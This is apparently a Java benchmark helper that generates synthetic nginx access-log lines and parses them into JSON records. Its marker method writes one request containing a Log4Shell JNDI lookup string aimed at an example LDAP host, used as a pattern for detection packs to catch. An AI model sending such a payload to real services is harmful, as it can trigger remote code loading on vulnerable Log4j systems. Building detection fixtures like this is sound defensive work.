package io.caltrop.app.bench;

import io.caltrop.core.logs.LineParser;
import io.caltrop.core.logs.LogFormat;
import io.caltrop.core.logs.UnparsableLineException;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.Locale;
import java.util.Random;

/**
 * Made-up lines of nginx: ten thousand addresses that read pages, one request in fifty an error. A
 * <i>marker</i> is a request that every pack finds at once: an attempt at Log4Shell.
 */
final class WebLines {
  private static final DateTimeFormatter TIME =
      DateTimeFormatter.ofPattern("dd/MMM/uuuu:HH:mm:ss Z", Locale.ROOT).withZone(ZoneOffset.UTC);
  private static final String[] PATHS = {
    "/",
    "/products/%d",
    "/products/%d?page=2&sort=price",
    "/static/app.%d.js",
    "/img/%d.webp",
    "/api/v1/items/%d",
    "/search?q=blue+shoes+%d",
    "/blog/2026/%d-how-we-ship"
  };
  private static final String[] AGENTS = {
    "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
        + " Chrome/143.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148"
  };

  private final Random random = new Random(1);
  private final LineParser parser = LogFormat.COMBINED.parser(ZoneOffset.UTC, Clock.systemUTC());
  private final Duration apart;
  private Instant now;

  /**
   * Begins.
   *
   * @param apart from one line to the next
   */
  WebLines(Instant begin, Duration apart) {
    now = begin;
    this.apart = apart;
  }

  /** The next line, without its end. */
  String next() {
    now = now.plus(apart);
    String address =
        "100." + (64 + random.nextInt(4)) + "." + random.nextInt(50) + "." + random.nextInt(50);
    String path = PATHS[random.nextInt(PATHS.length)].formatted(random.nextInt(1000));
    int status = random.nextInt(50) == 0 ? 404 : 200;
    String agent = AGENTS[random.nextInt(AGENTS.length)];
    return line(address, path, status, agent);
  }

  /** A marker of an address. */
  String marker(String address) {
    return line(address, "/?x=${jndi:ldap://198.51.100.1/a}", 404, AGENTS[0]);
  }

  private String line(String address, String path, int status, String agent) {
    return "%s - - [%s] \"GET %s HTTP/1.1\" %d %d \"-\" \"%s\""
        .formatted(address, TIME.format(now), path, status, random.nextInt(50_000), agent);
  }

  /** What {@code caltrop ship} makes of a line. */
  byte[] record(String line) {
    try {
      return parser.parse(line).get(0).toJson();
    } catch (UnparsableLineException e) {
      throw new IllegalStateException(line, e);
    }
  }
}
